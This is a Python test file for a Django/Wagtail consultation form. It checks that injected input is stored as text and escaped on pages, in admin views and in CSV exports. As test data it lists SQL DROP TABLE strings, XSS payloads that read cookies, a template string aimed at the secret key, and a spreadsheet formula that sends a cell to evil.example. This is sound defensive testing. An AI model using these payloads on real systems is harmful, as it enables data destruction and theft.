"""SQL and script injection through every text field of the form is stored as
text and shown escaped: on the thank-you page, in the admin and in exports."""

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from django.utils.html import escape

from consultations.models import ConsultationRequest
from tests.consultations.dashboard import request_url
from tests.second_factor import SecondFactorClient

pytestmark = pytest.mark.django_db

INJECTIONS = [
    "Robert'); DROP TABLE consultations_consultationrequest;--",
    '" OR "1"="1',
    "<script>alert('prospect')</script>",
    '<img src=x onerror="alert(1)">',
    "{{ settings.SECRET_KEY }} {% debug %}",
    "javascript:alert(document.cookie)",
]
FORMULA = '=HYPERLINK("https://evil.example/?"&C2,"Open")'


@pytest.fixture
def submitted(firm_settings, city_page, prospect_answers):
    """Each injection sent through the free-text fields, one request each."""

    def submit(text):
        client = Client()
        response = client.post(
            firm_settings.consultation_page.url,
            {**prospect_answers, "full_name": text, "message": text},
            follow=True,
        )
        return response, ConsultationRequest.objects.get(full_name=text)

    return submit


@pytest.fixture
def attorney_client(attorney_user):
    client = SecondFactorClient()
    client.force_login(attorney_user)
    return client


@pytest.mark.parametrize("text", INJECTIONS)
def test_injections_are_stored_as_text_and_shown_escaped(
    submitted, attorney_client, text
):
    thank_you, consultation_request = submitted(text)
    inspect = attorney_client.get(request_url("inspect", consultation_request))
    listing = attorney_client.get(request_url("list"))

    assert thank_you.status_code == 200
    assert consultation_request.message == text
    assert ConsultationRequest.objects.count() == 1
    assert escape(text) in inspect.content.decode()
    assert escape(text) in listing.content.decode()
    for response in (thank_you, inspect, listing):
        page = response.content.decode()
        assert text == escape(text) or text not in page
        assert settings.SECRET_KEY not in page


def test_a_formula_in_a_name_is_exported_as_text(submitted, attorney_client):
    submitted(FORMULA)

    export = attorney_client.get(request_url("list", query="?export=csv"))

    csv = b"".join(export.streaming_content).decode()
    assert "'=HYPERLINK" in csv
    assert ',"=HYPERLINK' not in csv


@pytest.mark.parametrize(
    "query",
    [
        '</title><object data="javascript:alert(1)">',
        "default¿'\"(",
        "https://evil.example//e.php\x00",
        '"; DROP TABLE wagtailcore_page; --',
    ],
)
def test_hostile_search_queries_get_an_ordinary_page(client, site_tree, query):
    response = client.get(reverse("search"), {"query": query})

    assert response.status_code == 200
    assert "<object data=" not in response.content.decode()
